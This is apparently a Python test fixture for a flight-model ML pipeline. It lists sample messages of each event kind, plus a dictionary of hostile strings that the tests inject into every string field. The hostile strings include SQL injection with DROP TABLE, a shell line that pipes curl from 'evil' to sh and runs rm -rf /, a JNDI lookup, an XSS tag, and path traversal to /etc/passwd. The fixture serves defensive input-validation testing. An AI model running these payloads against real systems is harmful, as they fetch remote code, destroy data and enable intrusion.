"""One message of every kind that somebody may publish, and strings that somebody may put into it."""

from typing import Any

from functions.entries import ON_CANDIDATE, ON_DATA, ON_DRIFT, ON_MANUAL, ON_MONITOR, ON_SCHEDULE, ON_TICK
from functions.message import Entry
from tests.messages.samples import sample

MANUAL = {"model": "flights", "action": "train", "reason": "new airport", "request_id": "r-1", "actor": "ann"}
KINDS: dict[str, tuple[Entry, Any]] = {
    **{name: (ON_DATA, sample(name)) for name in ("audit_table_change", "audit_job_change", "audit_legacy_load")},
    "transfer_to_table": (ON_DATA, sample("transfer_to_table")),
    "watermark": (ON_DATA, {"kind": "watermark", "model": "flights"}),
    "incident_open": (ON_DRIFT, sample("incident_open")),
    "anomaly_v1": (ON_DRIFT, sample("anomaly_v1")),
    "anomaly_v2_alert": (ON_DRIFT, sample("anomaly_v2_alert")),
    "drift_incident": (ON_DRIFT, sample("drift_incident")),
    "schedule": (ON_SCHEDULE, {"model": "flights", "schedule": "main", "action": "auto", "kind": "schedule"}),
    "manual": (ON_MANUAL, MANUAL),
    "monitor_tick": (ON_MONITOR, {"kind": "tick"}),
    "pipeline_job_event": (ON_TICK, sample("pipeline_job_event")),
    "job_ended": (ON_TICK, {"kind": "job-ended", "run_id": "flights-20260131-030000-1a2b", "job_id": "1"}),
    "candidate": (ON_CANDIDATE, {"kind": "candidate", "run_id": "flights-20260131-030000-1a2b"}),
}
HOSTILE = {
    "sql": "x'; DROP TABLE flights.history; --",
    "sql with back-ticks": "`a`.`b` UNION SELECT * FROM `c`",
    "shell": "$(curl http://evil/x|sh); `id` && rm -rf / #",
    "path": "../../runs/flights-1",
    "absolute path": "/etc/passwd",
    "address": "gs://other-bucket/model",
    "line break": 'a\n{"severity": "ERROR", "message": "forged"}',
    "carriage return": "a\r\x1b[31mred\x1b[0m",
    "template": "{0.__class__.__mro__} {{7*7}} ${jndi:ldap://evil/x} %s%n",
    "look-alike": "fl\u0456ghts",  # a Cyrillic letter
    "right to left": "flights\u202egnp.exe",
    "zero byte": "flights\x00.json",
    "markup": "<script>alert(1)</script>",
    "long": "A" * 20_000,
    "empty": "",
    "dots": "..",
}


def string_fields(value: Any, above: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """The path of every string inside ``value``."""
    if isinstance(value, str):
        return [above]
    inner = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return [path for key, item in inner for path in string_fields(item, (*above, key))]


def put(value: Any, path: tuple[Any, ...], text: str) -> Any:
    """``value`` with the string at ``path`` replaced."""
    if not path:
        return text
    key, *rest = path
    if isinstance(value, list):
        return [put(item, tuple(rest), text) if index == key else item for index, item in enumerate(value)]
    return {name: put(item, tuple(rest), text) if name == key else item for name, item in value.items()}
